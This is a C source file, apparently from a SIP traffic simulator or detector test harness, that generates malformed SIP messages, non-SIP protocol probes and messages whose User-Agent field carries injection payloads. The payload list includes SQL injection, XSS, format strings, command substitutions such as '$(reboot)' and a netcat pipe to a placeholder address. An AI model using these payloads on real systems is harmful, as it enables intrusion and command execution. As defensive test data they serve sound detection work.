/* SPDX-License-Identifier: Apache-2.0 */
/* Variants of those who send what no phone sends. */
#include "judge/crew.h"

#include <stdio.h>
#include <string.h>

struct spoiling {
	const char *from, *to; /* a piece of a good message, and what stands there instead */
	uint32_t repeats;      /* how often `to` is written; 0: once */
};

static const struct spoiling spoilings[] = {
	{ "SIP/2.0\r\n", "SIP/9.9\r\n", 0 },
	{ "CSeq: ", "CSeq: 99999999999", 0 },
	{ "Via: ", "Vi\x01: ", 0 },
	{ "Call-ID: ", "Call-ID: \r\nCall-ID: ", 0 },
	{ "Content-Length: ", "Content-Length: -", 0 },
	{ "Content-Length: ", "Content-Length: 4294967296", 0 },
	{ "Max-Forwards: 70", "Max-Forwards: 4096", 0 },
	{ "From: ", "From: <sip:\x7f", 0 },
	{ "To: <", "To: <<<<<<<<<<<<", 0 },
	{ "OPTIONS ", "OPTIONS  ", 0 },
	{ "OPTIONS", "A", 90 },
	{ "Max-Forwards: 70\r\n", "Max-Forwards 70\r\n", 0 },
	{ "Max-Forwards: 70\r\n", "Accept: x\r\n", 140 },
	{ "sip:", "s\tip:", 0 },
	{ "\r\nCSeq: 1 ", "\r\nCSeq: 1 A", 0 },
	{ "branch=", "branch=;=", 0 },
};

static const char *const injections[] = {
	"' OR 1=1 --",
	"<script>alert(1)</script>",
	"%n%n%n%n%s%s",
	"$(reboot)",
	"`id`",
	"'; DROP TABLE sip; --",
	"../../../../etc/passwd",
	"\" UNION SELECT 1,2 --",
	"|nc 192.0.2.1 4444",
};

static void spoil(struct view text, const struct spoiling *s, struct buffer *ret)
{
	const char *found = memmem(text.at, text.len, s->from, strlen(s->from));
	size_t before = found ? (size_t)(found - text.at) : text.len;

	buffer_put(ret, view_first(text, before));
	for (uint32_t i = 0; found && i < (s->repeats ? s->repeats : 1); i++)
		buffer_text(ret, s->to);
	if (found)
		buffer_put(ret, view_after(text, before + strlen(s->from)));
}

static void send(struct crew *c, const struct spoiling *s, const char *agent)
{
	char good_text[2048], bad_text[4000];
	struct buffer good = BUFFER_ON(good_text), bad = BUFFER_ON(bad_text);
	struct parties p = crew_turn(c);
	struct words w;

	crew_words(c, &p, "OPTIONS", "200", &w);
	w.agent = agent;
	words_write(&w, &good);
	spoil(buffer_view(&good), s, &bad);
	stage_bytes(c->stage, &p, buffer_view(&bad), -1);
	crew_pause(c);
}

void play_malformed(struct crew *c)
{
	uint32_t count = sizeof(spoilings) / sizeof(spoilings[0]);
	uint32_t messages = (uint32_t)chance_between(&c->stage->chance, 6, 40);
	uint32_t kind = chance_below(&c->stage->chance, count + 1); /* one kind, or all in turn */

	crew_draw(c, c->stage, 1, 1);
	c->make = MAKE_PLAIN;
	if (c->pace_us > 5 * SECOND_US)
		c->pace_us = SECOND_US;
	for (uint32_t i = 0; i < messages; i++)
		send(c, &spoilings[kind < count ? kind : i % count], NULL);
}

void play_injection(struct crew *c)
{
	static const struct spoiling none = { "\r\n\r\n", "\r\n\r\n", 0 };
	uint32_t messages = (uint32_t)chance_between(&c->stage->chance, 6, 40);

	crew_draw(c, c->stage, 1, 1);
	c->make = MAKE_PLAIN;
	if (c->pace_us > 5 * SECOND_US)
		c->pace_us = SECOND_US;
	for (uint32_t i = 0; i < messages; i++)
		send(c, &none, injections[i % (sizeof(injections) / sizeof(injections[0]))]);
}

static const struct {
	const char *bytes;
	size_t len;
	int kind;
} protocols[] = {
#define BYTES(text) text, sizeof(text) - 1
	{ BYTES("GET / HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n"), NON_SIP_HTTP },
	{ BYTES("GET /admin/config.php HTTP/1.0\r\n\r\n"), NON_SIP_HTTP },
	{ BYTES("POST /cgi-bin/luci HTTP/1.1\r\nContent-Length: 0\r\n\r\n"), NON_SIP_HTTP },
	{ BYTES("\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03ClientHello"), NON_SIP_TLS },
	{ BYTES("\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00"), NON_SIP_NOISE },
	{ BYTES("SSH-2.0-scan\r\n"), NON_SIP_NOISE },
	{ BYTES("OPTIONS rtsp://192.0.2.1/ RTSP/1.0\r\nCSeq: 1\r\n\r\n"), NON_SIP_RTSP },
	{ BYTES("\x00\x1b\x00\x01version.bind what is this"), NON_SIP_NOISE },
#undef BYTES
};

/* Over connections most often; over UDP nothing proves who sent it, so that more is wanted. */
void play_not_sip(struct crew *c)
{
	uint32_t count = sizeof(protocols) / sizeof(protocols[0]);
	uint32_t first = chance_below(&c->stage->chance, count), tries;
	bool is_tcp = chance_of(&c->stage->chance, 70);

	crew_draw(c, c->stage, 1, (uint32_t)chance_between(&c->stage->chance, 1, 8));
	c->is_tcp = is_tcp;
	if (c->pace_us > 5 * SECOND_US)
		c->pace_us = SECOND_US;
	tries = (uint32_t)chance_between(&c->stage->chance, is_tcp ? 3 : 8, 20);
	for (uint32_t i = 0; i < tries; i++) {
		uint32_t which = (first + i * (c->sources[0].port % 2)) % count;
		struct parties p = crew_turn(c);

		p.client.port = (uint16_t)(p.client.port + i);
		stage_bytes(c->stage, &p,
		            (struct view){ protocols[which].bytes, protocols[which].len },
		            protocols[which].kind);
		crew_pause(c);
	}
}
